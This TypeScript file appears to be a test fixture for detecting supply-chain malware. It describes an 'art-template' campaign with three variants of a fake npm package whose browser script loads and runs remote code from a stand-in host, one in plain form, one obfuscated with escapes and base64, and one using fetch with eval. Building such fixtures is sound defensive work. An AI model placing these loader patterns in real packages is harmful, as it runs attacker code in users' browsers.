import { base64, type Campaign, entry, escapes, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'art-template',
  row: 'art-template 2025–5/2026',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({ main: 'index.js', browser: 'lib/template-web.js' }),
        'index.js': 'module.exports = {};\n',
        'lib/template-web.js': `!function (e) { e.template = function (s) { return s; }; }(window);
(function () {
  var s = document.createElement('script');
  s.src = 'https://cdn.kit.weir.test/loader.js?r=' + encodeURIComponent(location.href);
  document.head.appendChild(s);
})();
`,
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest({ main: 'index.js', browser: 'lib/template-web.js' }),
        'index.js': 'module.exports = {};\n',
        'lib/template-web.js': `window.template = function (s) { return s; };
var _d = document, _s = _d['${escapes('createElement')}']('${escapes('script')}');
_s['${escapes('src')}'] = atob('${base64('https://cdn.kit.weir.test/loader.js')}');
_d['${escapes('head')}']['${escapes('appendChild')}'](_s);
`,
      },
    },
    {
      concealment: 'moved',
      files: entry(`exports.render = (s) => s;
if (typeof window !== 'undefined') {
  fetch('https://cdn.kit.weir.test/loader.txt').then((r) => r.text()).then((t) => { (0, eval)(t); });
}
`),
    },
  ],
};
